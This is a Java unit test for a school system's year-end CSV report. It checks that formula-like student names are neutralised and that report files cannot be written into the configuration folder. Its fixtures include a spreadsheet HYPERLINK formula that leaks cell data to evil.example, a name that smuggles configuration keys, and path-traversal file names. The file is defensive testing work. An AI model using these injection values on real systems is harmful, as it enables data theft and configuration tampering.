package org.misbridge.leavers.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Properties;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.misbridge.api.directory.DirectoryState;
import org.misbridge.api.directory.Member;
import org.misbridge.api.directory.MemberKind;
import org.misbridge.api.directory.Origin;
import org.misbridge.api.model.EnrolmentState;
import org.misbridge.sync.internal.ExportFolderComponent;

/**
 * The year-end report with hostile names from the MIS: read back with commons-csv it has one
 * record per member with each name whole in its cell, and names a spreadsheet would run as a
 * formula start with an apostrophe (OWASP's CSV Injection advice); the file only ever lands in
 * the export folder, because the same bytes read as a .cfg would be a school's configuration.
 */
class YearEndReportTest {

    private static final String CONFIG_IN_A_NAME = "Ann\nschool.id=stolen\ncsv.path=/srv/mis/oakwood\nreader.target=(school.id=stolen)";

    @TempDir
    Path home;

    private static Member student(String id, String given, String family, String year) {
        return new Member(id, MemberKind.STUDENT, given, family, year, null, EnrolmentState.ON_ROLL, null, null, null, Origin.IMPORT);
    }

    private final DirectoryState state = new DirectoryState("hostile", List.of(
            student("s1", CONFIG_IN_A_NAME, "Smith", "7"),
            student("s2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-Smith", "7"),
            student("s3", "@SUM(1+1)", "+Jones", "-1"),
            student("s4", "Bob", "O'Neil, Jr", "R")), List.of(), List.of(), List.of(), List.of(), List.of(), List.of());

    private ExportFolderComponent exports() throws Exception {
        return new ExportFolderComponent("", home.toString(), home.resolve("data").toString(),
                Arrays.asList(Files.createDirectories(home.resolve("etc")), home.resolve("deploy")));
    }

    private Path report(ExportFolderComponent exports, String name) throws Exception {
        LeaverFacts facts = new LeaverFacts(state, List.of(), List.of(), LocalDate.of(2026, 7, 20));
        return exports.writeNew(name, ".csv", out -> YearEndReport.write(out, state, facts, List.of()));
    }

    @Test
    void everyNameStaysWholeInItsCellAndFormulaLikeOnesAreNeutralised() throws Exception {
        Path file = report(exports(), "before-year-end");

        List<CSVRecord> rows;
        try (Reader in = Files.newBufferedReader(file)) {
            rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build().parse(in).getRecords();
        }
        assertThat(rows).extracting(r -> r.get("member_id")).containsExactly("s1", "s2", "s3", "s4");
        assertThat(rows.get(0).get("given_name")).isEqualTo(CONFIG_IN_A_NAME);
        assertThat(rows.get(1).get("given_name")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        assertThat(rows.get(1).get("family_name")).isEqualTo("'-Smith");
        assertThat(rows.get(2).get("given_name")).isEqualTo("'@SUM(1+1)");
        assertThat(rows.get(2).get("family_name")).isEqualTo("'+Jones");
        assertThat(rows.get(2).get("year_group")).isEqualTo("-1");
        assertThat(rows.get(3).get("family_name")).isEqualTo("O'Neil, Jr");
        assertThat(rows.get(3).get("open_wallet_balance")).isEqualTo("0.00");
    }

    @Test
    void theReportReadAsAConfigurationFileWouldBeASchoolSoItIsNeverWrittenIntoEtc() throws Exception {
        ExportFolderComponent exports = exports();
        Path file = report(exports, "attack");
        // CSV quoting keeps the name in its cell for a CSV reader, but not for a .cfg reader:
        Properties asConfiguration = new Properties();
        try (Reader in = Files.newBufferedReader(file)) {
            asConfiguration.load(in);
        }
        assertThat(asConfiguration.getProperty("school.id")).isEqualTo("stolen");
        assertThat(asConfiguration.getProperty("csv.path")).isEqualTo("/srv/mis/oakwood");

        // ... which is why no name reaches etc/, whichever way it is spelt
        for (String name : new String[] {home.resolve("etc/org.misbridge.mis.oneroster-stolen.cfg").toString(),
            "../../etc/org.misbridge.mis.oneroster-stolen.cfg", "etc/org.misbridge.sync-stolen.cfg"}) {
            assertThatThrownBy(() -> report(exports, name)).as(name).isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("is a path");
        }
        try (Stream<Path> etc = Files.list(home.resolve("etc"))) {
            assertThat(etc).isEmpty();
        }
        assertThat(file.getParent()).isEqualTo(home.resolve("data/misbridge/exports").toRealPath());
    }
}
